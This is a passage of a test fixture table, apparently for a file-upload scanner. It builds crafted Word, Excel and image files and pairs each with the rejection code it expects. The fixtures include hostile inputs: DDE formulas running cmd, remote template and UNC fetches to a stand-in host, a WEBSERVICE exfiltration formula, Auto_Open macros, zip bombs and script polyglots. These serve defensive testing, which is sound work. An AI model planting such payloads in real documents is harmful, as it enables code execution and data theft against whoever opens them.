          `<Relationship Id="x" a=">" Type="${OFFICE}/attachedTemplate" Target="http://a.example/a" TargetMode="External"/>`,
        ),
      ]),
    code: 'reachesOut',
  },
  'a Word document that says that what lies elsewhere lies in it': {
    name: 'a.docx',
    bytes: () => docx([relationships(external('image', 'http://a.example/a.png', 'Internal'))]),
    code: 'reachesOut',
  },
  'a Word document with a page of another': {
    name: 'a.docx',
    bytes: () => docx([relationships(external('frame', 'http://a.example/'))]),
    code: 'reachesOut',
  },
  'a Word document that fetches by what says that it is a link': {
    name: 'a.docx',
    bytes: () =>
      docx([
        relationships(external('hyperlink', 'http://a.example/a.dotm').replace('"x"', '"r9"')),
        {
          name: 'word/settings.xml',
          content: '<w:settings xmlns:w="x" xmlns:r="y"><w:attachedTemplate r:id="r9"/></w:settings>',
        },
      ]),
    code: 'reachesOut',
  },
  'a Word document with a picture that names its place itself': {
    name: 'a.docx',
    bytes: () => fields('<v:imagedata xmlns:v="x" src="\\\\a.example\\a.png"/>'),
    code: 'reachesOut',
  },
  'a Word document with another in it, written in numbers': {
    name: 'a.docx',
    bytes: () =>
      docx([
        relationships(`<Relationship Id="x" Type="${OFFICE}/aF&#67;hunk" Target="a.xml"/>`),
        { name: 'word/a.xml', content: '<x/>' },
      ]),
    code: 'embedded',
  },
  'a Word document whose picture is said to be macros': {
    name: 'a.docx',
    bytes: () =>
      docx([
        saying(
          '<Override a=">" PartName="/word/media/a.png" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        { name: 'word/media/a.png', content: 'x' },
      ]),
    code: 'macros',
  },
  'a Word document whose picture is said to be an object': {
    name: 'a.docx',
    bytes: () =>
      docx([
        saying(
          '<Override PartName="/WORD/media/%61.png" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        ),
        { name: 'word/media/a.png', content: 'x' },
      ]),
    code: 'embedded',
  },
  'a Word document with fields in what is called a picture': {
    name: 'a.docx',
    bytes: () =>
      docx([
        saying(
          '<Override PartName="/word/media/a.png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"/>',
        ),
        { name: 'word/media/a.png', content: `<w:ftr xmlns:w="x">${aField('DDEAUTO c:\\x')}</w:ftr>` },
      ]),
    code: 'embedded',
  },
  'a Word document that is led to as something else': {
    name: 'a.docx',
    bytes: () =>
      docx([
        {
          name: '_rels/.rels',
          content: `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="ppt/a.xml"/></Relationships>`,
        },
        { name: 'ppt/a.xml', content: '<x/>' },
      ]),
    code: 'otherFormat',
  },
  'a Word document of which a part is there twice': {
    name: 'a.docx',
    bytes: () =>
      docx([
        { name: 'word/a.xml', content: '<x/>' },
        { name: 'word/A.xml', content: '<x/>' },
      ]),
    code: 'broken',
  },
  'a Word document of which a part has two names': {
    name: 'a.docx',
    bytes: () => docx([{ name: 'word/a.xml', localName: 'word/b.xml', content: '<x/>' }]),
    code: 'broken',
  },
  'a Word document with a program between its parts': {
    name: 'a.docx',
    bytes: () => docx([{ name: 'word/a.xml', content: '<x/>', before: bytesOf('MZ program') }]),
    code: 'polyglot',
  },
  'a Word document with a web page behind its end': {
    name: 'a.docx',
    bytes: () => writeZip([{ name: 'word/a.xml', content: '<x/>' }], '<script>alert(1)</script>'),
    code: 'polyglot',
  },
  'a Word document that says UTF-8 and then something else': {
    name: 'a.docx',
    bytes: () =>
      docx([
        {
          name: 'word/a.xml',
          content: `<?xml version="1.0" ${' '.repeat(300)} encoding="UTF-7"?><x>+ADw-</x>`,
        },
      ]),
    code: 'broken',
  },
  'a workbook that asks another program': {
    name: 'a.xlsx',
    bytes: () => formula("cmd|'/c calc'!A0"),
    code: 'reachesOut',
  },
  'a workbook that asks the network': {
    name: 'a.xlsx',
    bytes: () => formula('1+_xlfn.WEB<!-- x -->SERVICE("http://a.example/"&amp;A1)'),
    code: 'reachesOut',
  },
  'a workbook that asks another workbook': {
    name: 'a.xlsx',
    bytes: () => formula("'\\\\a.example\\[a.xlsx]Blad1'!A1"),
    code: 'reachesOut',
  },
  'a workbook that asks the network in a name': {
    name: 'a.xlsx',
    bytes: () =>
      formula('A2', '<definedNames><definedName name="a">RTD("a",,"b")</definedName></definedNames>'),
    code: 'reachesOut',
  },
  'a workbook with a macro in a name': {
    name: 'a.xlsx',
    bytes: () => formula('A2', '<definedName name="_xlnm.Auto_Open">Blad1!A1</definedName>'),
    code: 'macros',
  },
  'a workbook with an object that lies elsewhere': {
    name: 'a.xlsx',
    bytes: () => formula('A2', '<oleObjects><oleObject progId="x" link="[1]!a"/></oleObjects>'),
    code: 'reachesOut',
  },
  'a workbook with a drawing that has a script': {
    name: 'a.xlsx',
    bytes: () =>
      xlsx([
        {
          name: 'xl/media/a.svg',
          content: '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
        },
      ]),
    code: 'macros',
  },
  'a Word document with an object in it': {
    name: 'a.docx',
    bytes: () => docx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
    code: 'embedded',
  },
  'a Word document with a web page in it': {
    name: 'a.docx',
    bytes: () => docx([{ name: 'word/afchunk.html', content: '<script>alert(1)</script>' }]),
    code: 'embedded',
  },
  'a Word document with a document with macros in it': {
    name: 'a.docx',
    bytes: () =>
      docx([
        {
          name: 'word/embeddings/a.xlsx',
          content: xlsx([{ name: 'xl/vbaProject.bin', content: 'x' }]),
        },
      ]),
    code: 'macros',
  },
  'a Word document with definitions': {
    name: 'a.docx',
    bytes: () => docx([{ name: 'word/a.xml', content: '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' }]),
    code: 'broken',
  },
  'a Word document with a part in an encoding of its own': {
    name: 'a.docx',
    bytes: () => docx([{ name: 'word/a.xml', content: Buffer.from('\ufeff<x/>', 'utf16le') }]),
    code: 'broken',
  },
  'a Word document that is also a PDF': {
    name: 'a.docx',
    bytes: () =>
      writeZip([
        { name: 'a.xml', content: pdf() },
        { name: 'word/document.xml', content: '<x/>' },
      ]),
    code: 'polyglot',
  },
  'a workbook that unpacks without end': {
    name: 'a.xlsx',
    bytes: () =>
      xlsx([{ name: 'xl/worksheets/sheet2.xml', content: ' '.repeat(260 * MEGABYTE), deflate: true }]),
    code: 'unpacksToTooMuch',
  },
  'a workbook that unpacks to more than it says': {
    name: 'a.xlsx',
    bytes: () =>
      xlsx([
        {
          name: 'xl/worksheets/sheet2.xml',
          content: ' '.repeat(30 * MEGABYTE),
          deflate: true,
          declaredSize: 100,
        },
      ]),
    code: 'broken',
  },
  'a picture that says it has 60,000 by 60,000 pixels': {
    name: 'a.png',
    bytes: () => declaring(60_000, 60_000),
    code: 'tooManyPixels',
  },
  'half a picture': { name: 'a.png', bytes: async () => (await png()).subarray(0, 60), code: 'broken' },
  'a picture that moves': { name: 'a.gif', bytes: moving, code: 'animated' },
  'a script that begins as a GIF does': {
    name: 'a.gif',
    bytes: () => bytesOf('GIF89a/*\u0001\u0000*/=1;alert(1)//'),
    code: 'broken',
  },
}
